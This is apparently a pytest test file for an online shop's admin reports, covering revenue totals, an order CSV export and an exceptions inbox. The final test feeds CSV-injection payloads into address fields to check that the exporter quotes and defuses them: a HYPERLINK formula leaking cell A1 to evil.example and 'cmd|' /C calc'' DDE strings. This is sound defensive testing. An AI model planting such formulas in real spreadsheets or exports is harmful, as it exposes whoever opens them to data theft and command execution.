"""Revenue per day, product totals, CSV and the exceptions inbox, for known data (SQLite and PostgreSQL)."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta

import pytest
import sqlalchemy as sa

from rxshop.admin.actions import ActionRefused, mark_shipped, resolve_exception
from rxshop.admin.auth import redeem_grant, sign_in
from rxshop.admin.export import CSV_COLUMNS, orders_csv
from rxshop.admin.reports import DayRevenue, ProductTotal, exceptions, product_totals, revenue, summary
from rxshop.core.models import Order, utcnow
from rxshop.orders.fulfillment import fulfill_checkout
from rxshop.orders.history import InboxKind
from rxshop.orders.stripe_events import record_unprocessable
from tests.fixtures.db import bought_order, checkout_for, sample_cart
from tests.fixtures.shop import ADMIN_PASSWORD, new_visitor

DAY1 = (utcnow() - timedelta(days=10)).replace(hour=10, minute=0, second=0, microsecond=0)


def _signed_in(session, visitor: str, now: datetime | None = None) -> str:
    """The owner's admin token, as the dashboard gets it: the password, then the grant traded once."""
    done = sign_in(
        session=session, visitor_id=visitor, client_ip="192.0.2.1", password=ADMIN_PASSWORD, now=now
    )
    return redeem_grant(session=session, grant=done.grant, visitor_id=visitor, now=now)


@pytest.fixture
def admin(session, app_env) -> str:
    app_env(ADMIN_PASSWORD=ADMIN_PASSWORD)
    return _signed_in(session, new_visitor())


def _paid(session, quantities, paid_at: datetime, **changes):
    order = bought_order(session, new_visitor(), sample_cart(quantities))
    result = fulfill_checkout(session=session, checkout=checkout_for(order, **changes))
    assert result.outcome == "fulfilled", result
    session.exec(sa.update(Order).where(Order.id == order.id).values(paid_at=paid_at))
    session.commit()
    return result.order


@pytest.fixture
def known(session):
    """A: 2 mugs + tote, 6.00 off, free Standard (54.00), day 1. B: a mug + 5.00 shipping (23.00), day 1 late,
    10.00 refunded. C: two notebooks + 5.00 (30.00), day 3. D: an open checkout."""
    a = _paid(session, {"mug": 2, "tote": 1}, DAY1, amount_discount=600, amount_total=5400,
              customer_email="=cmd@example.com")  # fmt: skip
    b = _paid(session, {"mug": 1}, DAY1.replace(hour=23, minute=30))
    c = _paid(session, {"notebook": 2}, DAY1 + timedelta(days=2))
    session.exec(
        sa.update(Order).where(Order.id == b.id).values(amount_refunded=1000, status="partially_refunded")
    )
    session.commit()
    bought_order(session, new_visitor())
    return a, b, c


def test_revenue_per_day_with_refunds_and_discounts_apart(session, admin, known) -> None:
    report = revenue(session=session, admin=admin, start=DAY1.date(), end=DAY1.date() + timedelta(days=2))
    d1, d2, d3 = [(DAY1 + timedelta(days=i)).date() for i in range(3)]
    assert report.days == (
        DayRevenue(d1, orders=2, revenue=7700, shipping=500, discounts=600, refunds=1000),
        DayRevenue(d2, 0, 0, 0, 0, 0),
        DayRevenue(d3, orders=1, revenue=3000, shipping=500, discounts=0, refunds=0),
    )
    assert (report.orders, report.revenue, report.refunds, report.discounts, report.net) == (
        3,
        10700,
        1000,
        600,
        9700,
    )
    only_day3 = revenue(session=session, admin=admin, start=d3, end=d3)
    assert only_day3.revenue == 3000 and len(only_day3.days) == 1
    assert product_totals(session=session, admin=admin, start=d1, end=d3) == (
        ProductTotal("mug", "Morning Mug", 3, 5400),
        ProductTotal("notebook", "Dot-Grid Notebook", 2, 2500),
        ProductTotal("tote", "Canvas Tote", 1, 2400),
    )


def test_csv_one_row_per_order_with_documented_columns(session, admin, known) -> None:
    a, b, c = known
    rows = list(csv.DictReader(io.StringIO(orders_csv(session=session, admin=admin))))
    assert list(rows[0].keys()) == list(CSV_COLUMNS)
    assert {r["order_id"] for r in rows} == {a.id, b.id, c.id}
    by_id = {r["order_id"]: r for r in rows}
    assert len(rows) == 3  # the open checkout is not an order yet
    row_a, row_b = by_id[a.id], by_id[b.id]
    assert (row_a["subtotal"], row_a["discount"], row_a["shipping"], row_a["total"]) == (
        "60.00",
        "6.00",
        "0.00",
        "54.00",
    )
    assert row_a["items"] == "2 x Morning Mug; 1 x Canvas Tote" and row_a["item_count"] == "3"
    assert row_a["email"] == "'=cmd@example.com"  # never a spreadsheet formula
    assert (row_b["status"], row_b["refunded"], row_b["total"], row_b["number"]) == (
        "partially_refunded", "10.00", "23.00", b.number
    )  # fmt: skip
    assert row_b["paid_at"].startswith(DAY1.date().isoformat())


def test_exceptions_inbox_unprocessable_overdue_and_resolution(session, admin, known) -> None:
    a, b, c = known
    record_unprocessable(
        session=session, event_id="evt_bad", event_type="charge.refunded", created=1, detail="no id"
    )
    now = DAY1 + timedelta(days=4)
    mark_shipped(
        session=session,
        admin=admin,
        order_id=a.id,
        carrier="UPS",
        tracking_number="1Z999AA10123456784",
        now=now,
    )

    open_items = exceptions(session=session, admin=admin, now=now)
    assert {(e.kind, e.reference) for e in open_items} == {
        (InboxKind.UNPROCESSABLE, "evt_bad"),
        (InboxKind.SHIP_OVERDUE, b.id),  # paid day 1, 3 days to ship; C (day 3) is not due yet
    }
    assert summary(session=session, admin=admin, now=now).open_exceptions == {
        "unprocessable": 1,
        "ship_overdue": 1,
    }

    with pytest.raises(ActionRefused, match="note"):
        resolve_exception(
            session=session, admin=admin, kind=InboxKind.SHIP_OVERDUE, reference=b.id, note=" ", now=now
        )
    resolve_exception(
        session=session,
        admin=admin,
        kind=InboxKind.SHIP_OVERDUE,
        reference=b.id,
        note="Buyer agreed to wait",
        now=now,
    )
    assert [e.kind for e in exceptions(session=session, admin=admin, now=now)] == [InboxKind.UNPROCESSABLE]
    every = {e.reference: e for e in exceptions(session=session, admin=admin, now=now, include_resolved=True)}
    assert every[b.id].resolution_note == "Buyer agreed to wait" and every[b.id].order_number == b.number
    counts = summary(session=session, admin=admin, now=now)
    assert (counts.open_exception_count, counts.to_ship) == (1, 2)
    later = now + timedelta(days=3)  # C becomes overdue too (and the owner, idle for 3 days, signs in again)
    again = _signed_in(session, new_visitor(), now=later)
    assert {e.reference for e in exceptions(session=session, admin=again, now=later)} == {"evt_bad", c.id}


def test_csv_quotes_every_cell_and_no_part_of_one_can_run_as_a_formula(session, admin, known) -> None:
    """What a buyer typed, read the way a spreadsheet might: quote-aware with `,`, or split on `;` (a
    semicolon locale), where what follows each `;` starts a cell of its own."""
    a, b, _c = known
    hostile = {
        "ship_name": 'Bob;=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "ship_line1": "1 Main St; +1+cmd|' /C calc'!A0",
        "ship_city": ';@SUM(1+1)*cmd|" /C calc"!A0',
        "ship_state": 'x; "=1+1"',
        "ship_line2": "Flat 2;\t=2+3",
        "phone": "+1 555 0100",
    }
    session.exec(sa.update(Order).where(Order.id == a.id).values(**hostile))
    session.commit()
    text = orders_csv(session=session, admin=admin)

    lines = text.split("\r\n")
    assert all(line.startswith('"') and line.endswith('"') for line in lines if line)  # QUOTE_ALL
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["order_id"] == a.id)
    assert row["ship_name"] == 'Bob;\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert row["ship_line1"] == "1 Main St;' +1+cmd|' /C calc'!A0"
    assert row["ship_city"] == ';\'@SUM(1+1)*cmd|" /C calc"!A0'  # a cell starting with `;`
    assert row["ship_state"] == 'x;\' "=1+1"'
    assert row["ship_line2"] == "Flat 2;'\t=2+3"
    assert row["phone"] == "'+1 555 0100"
    assert row["items"] == "2 x Morning Mug; 1 x Canvas Tote"  # a `;` before plain text stays as it was
    formula = re.compile(r'^[\s"]*[=+\-@]|^[\t\r]')
    for line in lines:  # every piece a `;`-splitting spreadsheet would see starts harmlessly
        for piece in line.split(";"):
            assert not formula.match(piece), piece
